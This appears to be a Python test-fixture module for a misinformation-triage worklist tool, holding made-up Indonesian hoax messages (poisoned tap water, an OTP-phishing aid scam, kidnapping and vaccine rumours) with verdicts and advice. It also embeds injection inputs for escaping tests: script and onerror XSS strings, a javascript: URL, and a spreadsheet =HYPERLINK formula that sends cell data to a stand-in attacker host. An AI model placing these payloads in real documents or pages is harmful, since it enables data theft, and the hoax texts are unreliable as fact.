"""A worklist with everything in it, written for these tests: every place, agency and number is made up."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

from saring.claims.claims import build_claims
from saring.records import (
    PART_NAMES,
    Advice,
    Change,
    Claim,
    ContextGroup,
    FactCheck,
    FactCheckMatch,
    MatchStatus,
    Message,
    PriorityPart,
    Reason,
    Score,
    ScoredMessage,
    Signal,
    Span,
    Verdict,
    WorklistItem,
    WorklistRun,
)

START = datetime(2026, 7, 20, 6, 15)
RUN = WorklistRun(
    made_at=datetime(2026, 7, 24, 10, 5),
    model_version="starter-3f2a",
    inputs=("data/demo", "warga.zip"),
    n_messages=214,
    n_texts=96,
    n_claims=12,
    options=(("--facts", "data/factchecks"), ("--deadline", "3h")),
    weights=tuple(zip(PART_NAMES, (3.0, 2.0, 1.5, 2.0, 1.0, 1.0, 0.5), strict=True)),
    context_groups=(
        ContextGroup("only_link", 3, 2, START, START.replace(day=23), ("hanya tautan",), ("https://contoh.example/a",)),
        ContextGroup("too_short", 12, 1, None, None, ("terlalu pendek",), ("<b>iya</b>", "=1+1")),
    ),
)
NASTY = (
    "<script>document.title = 'kena'</script></script><!-- <img src=x onerror=alert(1)> "
    '\u202egnuces nakrabes\u202c \x07 =HYPERLINK("http://jahat.example";"klik") & \'kutip\' '
)
FORMULA = '=HYPERLINK("http://jahat.example/curi?d="&A1;"Klik untuk bantuan beras Kecamatan Sukamaju tahap dua")'
LONG = NASTY + "Warga Kampung Melati diminta menguras tandon sebelum Jumat karena ada racun. " * 130

# text, topics, signals (code, the words they stand on), spread over days
STORIES: tuple[tuple[str, tuple[str, ...], tuple[tuple[str, str], ...]], ...] = (
    (
        "INFO PENTING! Mulai besok air PDAM Kecamatan Sukamaju dicampur obat penenang, jangan diminum tiga hari. "
        "Sebarkan ke keluarga sebelum dihapus!",
        ("health", "public_services"),
        (("urging", "Sebarkan ke keluarga sebelum dihapus"),),
    ),
    (
        "Bantuan beras 40 kg dari Dinas Sosial Kabupaten Tirtasari sudah cair, daftar di "
        "https://bansos-tirtasari.example/klaim lalu kirim kode OTP ke 0812-0000-4411 untuk konfirmasi.",
        ("money", "public_services"),
        (("agency_link_outside", "https://bansos-tirtasari.example/klaim"), ("code_request", "kirim kode OTP")),
    ),
    (
        "Kata petugas pos ronda, gempa susulan lebih besar akan terjadi nanti malam pukul 23.00 di Teluk Randu. "
        "Semua warga diminta mengungsi ke bukit.",
        ("disaster",),
        (),
    ),
    (
        "Vaksin campak di Puskesmas Melati bikin anak kejang, tiga anak sudah dirawat, bidannya disuruh tutup mulut.",
        ("health",),
        (),
    ),
    (
        "TPS di Desa Karang Anyar dipindah ke kantor partai, yang tidak datang sebelum jam 8 tidak boleh mencoblos.",
        ("elections",),
        (),
    ),
    (
        "Unduh aplikasi Cek Pajak Motor resmi Samsat di pajak-motor.example/app.apk, dendanya dihapus sampai Minggu.",
        ("money",),
        (("app_file", "pajak-motor.example/app.apk"),),
    ),
    (
        "Penculik anak naik mobil putih sudah sampai Kampung Melati, dua anak SD hilang kemarin sore, hati-hati!",
        ("unrest",),
        (("urging", "hati-hati"),),
    ),
    (
        "Penculik anak naik mobil putih sudah sampai Desa Randu Agung, dua anak SD hilang kemarin sore, hati-hati!",
        ("unrest",),
        (),
    ),
    (
        "Minum rebusan daun kelor campur garam tiga kali sehari menyembuhkan demam berdarah tanpa ke dokter.",
        ("health",),
        (),
    ),
    (
        "Kantor Kelurahan Wanasari tutup dua minggu karena semua pegawainya positif, urus KTP ke kota saja.",
        ("public_services",),
        (),
    ),
    (FORMULA, ("money",), ()),
    (LONG, ("health",), ()),
)
VERDICTS = (Verdict.LIKELY_HOAX, Verdict.UNVERIFIED, Verdict.LIKELY_HOAX, Verdict.NEEDS_CONTEXT)
ADVICE = (Advice.RESPOND_NOW, Advice.RESPOND_NOW, Advice.PREPARE_ANSWER, Advice.WATCH, Advice.ALREADY_ANSWERED,
          Advice.DO_NOT_AMPLIFY)  # fmt: skip
WHY = {
    Advice.RESPOND_NOW: "beredar di 3 grup dan bertambah 5 pesan sejak kemarin",
    Advice.PREPARE_ANSWER: "menyangkut keselamatan, tetapi peredarannya belum luas",
    Advice.WATCH: "baru sekali terlihat",
    Advice.ALREADY_ANSWERED: "sudah dijawab cek fakta terbitan Juli",
    Advice.DO_NOT_AMPLIFY: "satu pesan di satu grup; membahasnya akan memperluasnya",
}
CHANGES = (Change.NEW, Change.GROWING, Change.UNCHANGED, Change.ANSWERED, Change.RESURFACED)
CHATS = (("whatsapp", "RT 05 Kampung Melati"), ("whatsapp", "Wali Murid 4B"), ("facebook", "Info Warga Tirtasari"))
PART_WHY = {
    "resemblance": "mirip hoaks yang dikenal",
    "reach": "3 grup, 5 pengirim",
    "growth": "5 pesan dalam 24 jam, sebelumnya 2",
    "harm": "topik kesehatan",
    "urging": "mengajak menyebarkan",
    "local": "menyebut Kecamatan Sukamaju",
    "recency": "terakhir 2 jam sebelum data berakhir",
}


def build_items(
    stories: Sequence[tuple[str, tuple[str, ...], tuple[tuple[str, str], ...]]] = STORIES,
) -> list[WorklistItem]:
    """Return one item a story, ranked in their order."""
    return [_item(i, *story) for i, story in enumerate(stories)]


def many_items(n: int) -> list[WorklistItem]:
    """Return `n` items, each a story with a number of its own."""
    return [
        _item(i, f"{text} Laporan nomor {i} dari posko {i % 97}.", topics, signals)
        for i in range(n)
        for text, topics, signals in (STORIES[i % 10],)
    ]


def _item(i: int, text: str, topics: tuple[str, ...], signals: tuple[tuple[str, str], ...]) -> WorklistItem:
    verdict, advice = VERDICTS[i % len(VERDICTS)], ADVICE[i % len(ADVICE)]
    values = [round(((i * 37 + place * 53) % 100) / 100, 2) for place in range(len(PART_NAMES))]
    weights = [weight for _, weight in RUN.weights]
    parts = tuple(map(PriorityPart, PART_NAMES, values, weights, PART_WHY.values()))
    return WorklistItem(
        rank=i + 1,
        priority=sum(v * w for v, w in zip(values, weights, strict=True)) / sum(weights),
        claim=_claim(i, text, verdict),
        parts=parts,
        advice=advice,
        advice_reason=Reason(str(advice), WHY[advice]),
        due_at=START + timedelta(days=4, hours=3 + i % 30) if advice is Advice.RESPOND_NOW else None,
        topics=topics,
        signals=tuple(
            Signal(code, f"tanda: {words}", text.index(words), text.index(words) + len(words))
            for code, words in signals
        ),
        matches=_matches(i),
        change=CHANGES[i % len(CHANGES)],
        n_new=i % 4,
    )


def _claim(i: int, text: str, verdict: Verdict) -> Claim:
    score = Score(verdict, 0.91 - i % 50 / 100, 0.88, 0.8 - i % 50 / 100, (Reason("x", f"alasan penilaian {i}"),))
    members = []
    for copy in range(1 + (i * 5) % 7):
        platform, chat = CHATS[(i + copy) % 3]
        sent_at = START + timedelta(hours=7 * copy + i, minutes=11 * copy)
        message = Message(
            platform,
            chat,
            f"p-{(i * 3 + copy) % 40:012x}",
            sent_at.replace(tzinfo=UTC) if platform == "facebook" else sent_at,
            "text",
            text,
            f"{chat}.txt:{i * 10 + copy}",
            "p-aaaaaaaaaaaa" if copy == 1 else "",
            f"https://facebook.example/post/{i}-{copy}" if platform == "facebook" else "",
        )
        members.append(ScoredMessage(message, score, "starter-3f2a"))
    (claim,) = build_claims(members)
    family = "c-penculikanak" if "Penculik" in text else claim.claim_id
    title = " ".join(text.split())[:120]
    return replace(
        claim, family_id=family, title=title, phrases=tuple(text.split()[:3]), n_last_day=i % 5, n_day_before=i % 3
    )


def _matches(i: int) -> tuple[FactCheckMatch, ...]:
    if i % 3:
        return ()
    status = MatchStatus.MATCHED if i % 2 == 0 else MatchStatus.SUGGESTED
    sure = FactCheck(
        f"fc-{i}",
        f"[SALAH] Kabar nomor {i} yang beredar di Kabupaten Tirtasari",
        url=f"https://cekfakta.example/{i}?a=1&b=2",
        textual_rating="salah",
        publisher="Cek Fakta Tirtasari",
        review_date=date(2026, 7, 1 + i % 28),
    )
    trick = FactCheck(f"fc-{i}-b", "Judul dengan <b>tanda</b>", url="javascript:alert(1)")
    return (
        FactCheckMatch(sure, 1, 0.83, status),
        FactCheckMatch(trick, 2, 0.41, MatchStatus.SUGGESTED),
    )


def explain_with(items: Sequence[WorklistItem]) -> Callable[[str], tuple[Span, ...]]:
    """Return a function that explains the texts of `items`: the first word and the fourth counted."""
    known = {item.claim.representative.message.text for item in items}

    def explain(text: str) -> tuple[Span, ...]:
        if text not in known:
            raise KeyError(text)
        words = text.split(" ")[:4]
        fourth = len(" ".join(words[:3])) + 1
        return (
            Span(0, len(words[0]), words[0], 0.8),
            Span(fourth, fourth + len(words[3]), words[3], -0.4),
        )

    return explain
